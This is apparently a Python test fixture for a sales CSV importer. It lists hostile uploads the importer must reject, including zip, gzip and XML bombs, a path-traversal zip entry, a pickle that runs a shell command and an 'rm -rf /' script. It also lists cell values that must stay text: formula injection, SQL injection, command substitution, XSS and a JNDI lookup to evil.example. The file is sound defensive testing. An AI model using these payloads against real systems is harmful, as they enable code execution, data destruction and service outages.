"""Hostile files of sales: what is not a table at all, and text that must stay text."""

import gzip
import io
import zipfile
import zlib
from collections.abc import Callable

from tests.sales.sales_csv import HEADER, ROW

TABLE = f"{HEADER}\n{ROW}\n"


def zipped(name: str, content: bytes) -> bytes:
    """An archive with one file: small itself, as large as its content when somebody unpacks it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _xml_bomb() -> str:
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><x>&e9;</x>'


EXCEL, ARCHIVE, UTF_16, BINARY = "Excel workbook or another ZIP", "gzip archive", "UTF-16", "binary file"
NO_HEADER, EMPTY = "The first line does not name the column InvoiceNo, StockCode", "empty"

UNREADABLE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip-bomb": (lambda: zipped("sales.csv", bytes(20 << 20)), EXCEL),
    "excel": (lambda: zipped("xl/workbook.xml", b"<workbook/>"), EXCEL),
    "zip-with-path-tricks": (lambda: zipped("../../../etc/cron.d/x", b"x"), EXCEL),
    "old-excel": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512), "Excel workbook in the old format"),
    "gzip-bomb": (lambda: gzip.compress(bytes(20 << 20)), ARCHIVE),
    "gzip-cut-off": (lambda: gzip.compress(TABLE.encode())[:20], ARCHIVE),
    "zlib": (lambda: zlib.compress(TABLE.encode()), NO_HEADER),
    "xz": (lambda: b"\xfd7zXZ\0\0\4" + bytes(100), BINARY),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100), BINARY),
    "tar": (lambda: b"sales.csv" + bytes(600), BINARY),
    "pdf": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF"),
    "png": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
    "jpeg": (lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0", BINARY),
    "elf": (lambda: b"\x7fELF\2\1\1" + bytes(100), BINARY),
    "exe": (lambda: b"MZ\x90\0\3" + bytes(100), BINARY),
    "database": (lambda: b"SQLite format 3\0" + bytes(100), BINARY),
    "parquet": (lambda: b"PAR1\x15\0\x15" + bytes(100), BINARY),
    "pickle": (lambda: b"cos\nsystem\n(S'touch /tmp/x'\ntR.", NO_HEADER),
    "nul-bytes": (lambda: bytes(1000), BINARY),
    "nul-before-the-header": (lambda: b"\0" + TABLE.encode(), BINARY),
    "every-byte": (lambda: bytes(range(256)) * 10, BINARY),
    "utf-16-le": (lambda: TABLE.encode("utf-16"), UTF_16),
    "utf-16-be": (lambda: b"\xfe\xff" + TABLE.encode("utf-16-be"), UTF_16),
    "utf-16-le-unmarked": (lambda: TABLE.encode("utf-16-le"), UTF_16),
    "utf-16-be-unmarked": (lambda: TABLE.encode("utf-16-be"), UTF_16),
    "utf-32": (lambda: TABLE.encode("utf-32"), UTF_16),
    "utf-32-be": (lambda: TABLE.encode("utf-32-be"), UTF_16),
    "utf-7": (lambda: b"+AEkAbgB2AG8AaQBjAGU-," + ROW.encode(), NO_HEADER),
    "ebcdic": (lambda: TABLE.encode("cp500"), NO_HEADER),
    "base64": (lambda: b"SW52b2ljZU5vLFN0b2NrQ29kZQ==", NO_HEADER),
    "nothing": (lambda: b"", EMPTY),
    "blank-lines": (lambda: b"\r\n" * 5000, EMPTY),
    "only-a-mark": (lambda: b"\xef\xbb\xbf", EMPTY),
    "only-delimiters": (lambda: b",;\t,;\t\n" * 100, EMPTY),
    "only-separator-lines": (lambda: b"sep=;\n" * 5000, EMPTY),
    "only-a-quote": (lambda: b'"', "a quote is opened and never closed"),
    "quotes": (lambda: b'"' * 100_001, "longer than 64 KiB"),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", NO_HEADER),
    "json": (lambda: b"[" * 20_000, NO_HEADER),
    "xml-bomb": (lambda: _xml_bomb().encode(), "a quote is opened"),
    "script": (lambda: b"#!/bin/sh\nrm -rf /\n", NO_HEADER),
    "sql": (lambda: b"DROP TABLE sales_lines; --\n", NO_HEADER),
    "template": (lambda: b"{{ 7 * 7 }},${jndi:ldap://evil.example/x}\n", NO_HEADER),
    "formula-as-header": (lambda: b"=cmd|' /C calc'!A0,@SUM(1)\n", NO_HEADER),
    "one-long-line": (lambda: b"a" * (5 << 20), "longer than 64 KiB"),
    "million-columns": (lambda: b"a," * 1_000_000 + b"\n", "longer than 64 KiB"),
    "32000-columns": (lambda: b"a," * 32_000 + b"\n", NO_HEADER),
    "header-over-100-lines": (lambda: b'"' + b"a\n" * 200 + b'",b\n', "a quote is opened and never closed"),
    "columns-missing": (
        lambda: b"InvoiceNo,Quantity\n1,2\n",
        "column StockCode, InvoiceDate, UnitPrice, Country",
    ),
    "column-twice": (lambda: f"{HEADER},Quantity\n".encode(), "Quantity more than once"),
    "column-by-two-names": (lambda: f"{HEADER},Price\n".encode(), "UnitPrice more than once"),
    "column-twice-by-case": (lambda: f"{HEADER},unit_PRICE\n".encode(), "more than once"),
}
"""Files that fail as a whole, with a part of the reason."""

TEXTS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1+1)",
    "=1+1;", "%0A=1", "'; DROP TABLE sales_lines; --", "Robert'); DROP TABLE students;--",
    "' OR '1'='1", "1; SELECT pg_sleep(10)", "$1", ":country", "%s%n%x", "{{7*7}}",
    "${jndi:ldap://evil.example/x}", "$(touch /tmp/x)", "`id`", "| cat",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</svg><svg onload=alert(1)>",
    "&lt;b&gt;", "]]>", "\\N", "\\", "\\x00", "\\u0000", "NULL", "None", "nan", "../../etc/passwd",
    "C:\\windows", "file:///etc/passwd", "\u202eecnarF", "\u2066x\u2069", "\ufeffx", "a\u200bb",
    "\ufdd0", "\uffff", "\U0010ffff", "👩\u200d👩\u200d👧", "e\u0301" * 30, "é", "e\u0301", "İ", "ß",
    "a\nb", "a\tb", 'a"b', "a,b;c",
]  # fmt: skip
"""What a cell may hold nevertheless: it is stored as it is, and never anything but text."""
